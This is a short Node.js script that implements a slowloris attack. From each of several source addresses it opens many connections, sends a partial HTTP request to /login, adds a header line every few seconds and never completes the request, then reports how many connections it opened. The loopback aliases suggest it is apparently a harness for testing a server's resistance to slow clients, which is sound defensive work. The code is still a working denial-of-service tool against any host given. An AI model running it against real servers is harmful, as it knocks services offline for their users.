// slow-client.mjs: a slowloris from several source addresses: N
// connections from each address in ADDRS (comma-separated, loopback
// aliases such as 127.0.0.2), each sending a request head one header line
// every 5 to 9 s and never finishing it; a connection that is closed is
// opened again. Runs SECONDS, then prints how many connections it opened.
// Usage: node slow-client.mjs HOST PORT ADDRS N SECONDS
import net from 'node:net';

const [host, portArg, addrsArg, nArg, secondsArg] = process.argv.slice(2);
const port = Number(portArg), until = Date.now() + Number(secondsArg) * 1000;
let opened = 0;
const timers = new Set();

function open(localAddress) {
  if (Date.now() >= until) return;
  opened++;
  const s = net.connect({ host, port, localAddress });
  let timer;
  const drip = () => {
    timer = setTimeout(() => { s.write(`X-Drip-${opened}: ${Date.now()}\r\n`); drip(); }, 5000 + Math.random() * 4000);
    timers.add(timer);
  };
  s.on('connect', () => { s.write('GET /login HTTP/1.1\r\nHost: langso\r\n'); drip(); });
  s.on('error', () => {});
  s.on('close', () => { clearTimeout(timer); timers.delete(timer); setTimeout(() => open(localAddress), 100); });
  setTimeout(() => s.destroy(), until - Date.now());
}

for (const a of addrsArg.split(',')) for (let i = 0; i < Number(nArg); i++) open(a);
setTimeout(() => { for (const t of timers) clearTimeout(t); console.log(opened); process.exit(0); }, until - Date.now() + 200);
